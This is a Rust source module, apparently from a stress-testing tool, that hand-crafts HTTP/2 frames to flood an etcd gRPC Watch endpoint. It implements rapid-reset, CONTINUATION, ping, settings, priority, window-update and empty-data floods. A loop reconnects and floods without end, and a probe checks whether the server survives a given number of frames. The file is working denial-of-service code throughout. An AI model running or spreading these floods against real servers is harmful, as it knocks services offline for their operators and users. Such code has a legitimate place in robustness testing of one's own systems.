//! Connections by hand: what HTTP/2 lets a client send, without end.

use std::{
    io,
    sync::{Arc, atomic::Ordering},
    time::Duration,
};

use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    time,
};

use super::{
    catalogue::Counts,
    frames::{
        self, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS,
        WINDOW_UPDATE, call, frame, preface,
    },
};
use crate::client::{Stream, Target};

/// What a connection is flooded with.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Flood {
    /// Calls whose requests do not end.
    Streams,
    /// Calls that are taken back at once.
    Resets,
    Settings,
    Pings,
    Priorities,
    WindowUpdates,
    EmptyData,
    /// A head that does not end.
    Continuations,
}

/// Everything but calls.
pub(super) const FRAMES: [Flood; 6] =
    [Flood::Settings, Flood::Pings, Flood::Priorities, Flood::WindowUpdates, Flood::EmptyData, Flood::Continuations];

/// Frames that are written at once.
const BATCH: u32 = 256;

/// Floods one connection after the other, each for as long as the server bears it.
pub(super) async fn flood(target: Target, floods: &[Flood], counts: Arc<Counts>) {
    for flood in floods.iter().cycle() {
        match target.dial_ready().await {
            Ok(stream) => {
                let _ = send(stream, *flood, &counts).await;
                counts.refused.fetch_add(1, Ordering::Relaxed);
            }
            Err(_) => {
                counts.failed.fetch_add(1, Ordering::Relaxed);
            }
        }
        time::sleep(Duration::from_millis(100)).await;
    }
}

/// Whether a server answers behind so many frames, or ends the connection.
pub async fn is_borne(target: &Target, flood: Flood, frames: u32) -> anyhow::Result<bool> {
    const LAST: &[u8; 8] = b"the last";
    let (mut reader, mut writer) = tokio::io::split(target.dial_ready().await?);
    let send = async {
        writer.write_all(&[preface(), first(flood)].concat()).await?;
        for n in 0..frames / BATCH {
            writer.write_all(&batch(flood, n)).await?;
        }
        let end = match flood {
            Flood::Continuations => frame(CONTINUATION, END_HEADERS, 1, &[]),
            _ => Vec::new(),
        };
        writer.write_all(&[end, frame(PING, 0, 0, LAST)].concat()).await
    };
    let answered = async {
        while let Some(read) = frames::read(&mut reader).await {
            if read.kind == PING && read.payload == LAST {
                return true;
            }
        }
        false
    };
    // Who has had enough does not read on.
    let (_, answered) = tokio::join!(send, answered);
    Ok(answered)
}

/// Returns when the server has ended the connection.
async fn send(stream: Stream, flood: Flood, counts: &Counts) -> io::Result<()> {
    let (mut reader, mut writer) = tokio::io::split(stream);
    // Who does not read is only stopped by it.
    let drain = async {
        let mut buffer = vec![0; 64 << 10];
        while reader.read(&mut buffer).await? > 0 {}
        Ok(())
    };
    let flood = async {
        writer.write_all(&[preface(), first(flood)].concat()).await?;
        for n in 0.. {
            writer.write_all(&batch(flood, n)).await?;
            counts.done.fetch_add(BATCH.into(), Ordering::Relaxed);
        }
        Ok(())
    };
    tokio::select! {
        end = flood => end,
        end = drain => end,
    }
}

fn batch(flood: Flood, n: u32) -> Vec<u8> {
    (n * BATCH..(n + 1) * BATCH).flat_map(|n| next(flood, n)).collect()
}

/// What comes before the flood.
fn first(flood: Flood) -> Vec<u8> {
    match flood {
        Flood::EmptyData => head(END_HEADERS, 1),
        Flood::Continuations => head(END_STREAM, 1),
        _ => Vec::new(),
    }
}

fn next(flood: Flood, n: u32) -> Vec<u8> {
    let stream = n.wrapping_mul(2).wrapping_add(1) & 0x7fff_ffff;
    match flood {
        Flood::Streams => head(END_HEADERS, stream),
        Flood::Resets => [head(END_HEADERS | END_STREAM, stream), frame(RST_STREAM, 0, stream, &[0, 0, 0, 8])].concat(),
        Flood::Settings => frame(SETTINGS, 0, 0, &[]),
        Flood::Pings => frame(PING, 0, 0, &[7; 8]),
        Flood::Priorities => frame(PRIORITY, 0, stream, &[0, 0, 0, 0, 1]),
        Flood::WindowUpdates => frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]),
        Flood::EmptyData => frame(DATA, 0, 1, &[]),
        Flood::Continuations => frame(CONTINUATION, 0, 1, &[]),
    }
}

/// The head of a call of Watch, whose answer goes on for as long as its request does.
fn head(flags: u8, stream: u32) -> Vec<u8> {
    frame(HEADERS, flags, stream, &call("/etcdserverpb.Watch/Watch"))
}
